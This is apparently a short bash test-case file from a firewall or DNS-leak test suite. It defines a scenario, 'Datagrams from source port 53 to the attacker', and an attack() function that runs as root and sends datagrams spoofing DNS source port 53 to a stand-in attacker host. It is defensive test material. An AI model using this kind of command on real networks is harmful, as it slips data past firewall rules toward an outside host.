# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='Datagrams from source port 53 to the attacker' origin='issue 4'
reason='not_resolved|incoming|dns_not_a_query|foreign_resolver' who=root
attack() { tool sockets.py from 53 198.18.3.66 9999 "$1"; }
